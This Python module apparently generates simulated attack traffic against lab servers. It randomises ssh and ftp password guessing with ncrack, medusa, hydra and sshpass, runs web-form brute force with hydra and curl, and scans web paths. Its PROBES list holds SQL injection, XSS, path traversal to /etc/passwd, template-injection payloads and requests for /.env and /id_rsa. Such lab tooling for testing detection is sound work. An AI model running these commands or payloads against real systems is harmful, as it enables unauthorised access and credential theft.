"""Guessing passwords, over ssh, ftp and a web form, and probing a web site."""

from __future__ import annotations

import random
from urllib.parse import quote

from lab.places import PASSWORDS, SERVERS
from lab.schedule import Action

__all__ = ["DRAW", "PROBES"]

# Paths and parameters that scanners ask for; the server knows none of them.
PROBES = (
    *("/.env", "/.git/HEAD", "/admin/login.php", "/backup.zip", "/cgi-bin/test.cgi", "/config.php.bak", "/phpinfo.php"),
    *(
        "/phpmyadmin/index.php",
        "/server-status",
        "/wp-admin/",
        "/wp-login.php",
        "/xmlrpc.php",
        "/manager/html",
        "/id_rsa",
    ),
    "/app/search?q=" + quote("' OR '1'='1' -- "),
    "/app/search?q=" + quote("1 UNION SELECT NULL,NULL,NULL-- -"),
    "/app/search?q=" + quote("<script>alert(1)</script>"),
    "/app/search?q=" + quote("../../../../etc/passwd"),
    "/app/search?q=" + quote("{{7*7}}"),
    "/app/search?q=" + quote("1;WAITFOR DELAY '0:0:5'--"),
    "/app/api/user?id=" + quote("1 AND SLEEP(3)"),
    "/app/api/item?id=" + quote("-1 UNION SELECT user,password FROM users"),
    "/index.php?page=" + quote("php://filter/convert.base64-encode/resource=index"),
    *("/solr/admin/", "/actuator/env"),
)


def _user(rng: random.Random) -> str:
    return rng.choice((*PASSWORDS, "root", "admin"))


def _guess(rng: random.Random, seconds: float, service: str) -> Action:
    target, user, many = rng.choice(SERVERS), _user(rng), str(rng.randint(1, 4))
    tool = rng.choice(
        ("ncrack", "medusa", "hydra", "own") if service == "ftp" else ("ncrack", "medusa", "own", "medusa")
    )
    words = "{run}/words.txt"
    if tool == "ncrack":
        limits = (
            f"{service}://{target}:{21 if service == 'ftp' else 22},CL={many},at={rng.randint(1, 4)},to={int(seconds)}s"
        )
        return Action(tool, (("ncrack", "-u", user, "-P", words, limits),))
    if tool == "medusa":
        return Action(tool, (("medusa", "-h", target, "-u", user, "-P", words, "-M", service, "-t", many),))
    if tool == "hydra":
        return Action(tool, (("hydra", "-I", "-l", user, "-P", words, "-t", many, f"{service}://{target}"),))
    settings = {
        "target": target,
        "user": user,
        "tries": rng.randint(1, 5),
        "sessions": rng.randint(5, 14),
        "at_a_time": rng.randint(1, 3),
        "pause": round(rng.uniform(0.0, 0.6), 2),
    }
    if service == "ftp":
        return Action("own", script="ftp_guess", settings=settings)
    options = ("-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no")
    prompts = ("-o", f"NumberOfPasswordPrompts={rng.randint(1, 3)}", "-o", "ConnectTimeout=4")
    commands = tuple(
        ("sshpass", "-p", f"guess{rng.randrange(10**5)}", "ssh", *options, *prompts, f"{user}@{target}", "true")
        for _ in range(settings["sessions"])
    )
    return Action("sshpass", commands, pause=settings["pause"], parallel=settings["at_a_time"])


def ssh(rng: random.Random, seconds: float) -> Action:
    """Passwords over ssh."""
    return _guess(rng, seconds, "ssh")


def ftp(rng: random.Random, seconds: float) -> Action:
    """Passwords over ftp."""
    return _guess(rng, seconds, "ftp")


def web_login(rng: random.Random, seconds: float) -> Action:
    """Passwords in a web form."""
    target, user = rng.choice(SERVERS), _user(rng)
    tool = rng.choice(("hydra", "own", "curl"))
    if tool == "hydra":
        form = "/app/login:user=^USER^&password=^PASS^:wrong user"
        command = (
            "hydra",
            "-I",
            "-l",
            user,
            "-P",
            "{run}/words.txt",
            "-t",
            str(rng.randint(1, 3)),
            target,
            "http-post-form",
            form,
        )
        return Action(tool, (("timeout", f"{rng.uniform(1.5, 4):.1f}", *command),))
    if tool == "curl":
        url = f"{rng.choice(('http', 'https'))}://{target}/app/login"
        commands = tuple(
            (
                "curl",
                "-s",
                "-k",
                "-m",
                "5",
                "-o",
                "/dev/null",
                "-d",
                f"user={user}&password=g{rng.randrange(10**6)}",
                url,
            )
            for _ in range(rng.randint(15, 40))
        )
        return Action(tool, commands, pause=round(rng.uniform(0, 0.5), 2), parallel=rng.randint(1, 3))
    settings = {
        "target": target,
        "port": rng.choice((80, 443, 8080)),
        "user": user,
        "count": rng.randint(20, 60),
        "per_connection": rng.choice((1, 1, 1, 3, 10)),
        "at_a_time": rng.randint(1, 4),
        "pause": round(rng.uniform(0.0, 0.5), 2),
        "agent": rng.random() < 0.7,
    }
    return Action("own", script="web_guess", settings=settings)


def web_probe(rng: random.Random, seconds: float) -> Action:
    """Known weak places of web sites, asked for one after the other."""
    target, scheme = rng.choice(SERVERS), rng.choice(("http", "http", "https"))
    paths = rng.choices(PROBES, k=rng.randint(24, 60))
    if rng.random() < 0.35:
        agent = rng.choice(("curl/7.88.1", "Mozilla/5.0 (compatible; scanner/1.0)", "sqlmap/1.7"))
        commands = tuple(
            ("curl", "-s", "-k", "-m", "5", "-o", "/dev/null", "-A", agent, f"{scheme}://{target}{path}")
            for path in paths
        )
        return Action("curl", commands, pause=round(rng.uniform(0, 0.4), 2), parallel=rng.randint(1, 3))
    settings = {
        "target": target,
        "port": 443 if scheme == "https" else rng.choice((80, 8080)),
        "paths": paths,
        "per_connection": rng.choice((1, 1, 2, 4)),
        "at_a_time": rng.randint(1, 4),
        "pause": round(rng.uniform(0.0, 0.4), 2),
        "method": rng.choice(("GET", "GET", "HEAD")),
        "agent": rng.random() < 0.7,
    }
    return Action("own", script="web_probe", settings=settings)


DRAW = {"ssh_bruteforce": ssh, "ftp_bruteforce": ftp, "web_bruteforce": web_login, "web_probe": web_probe}
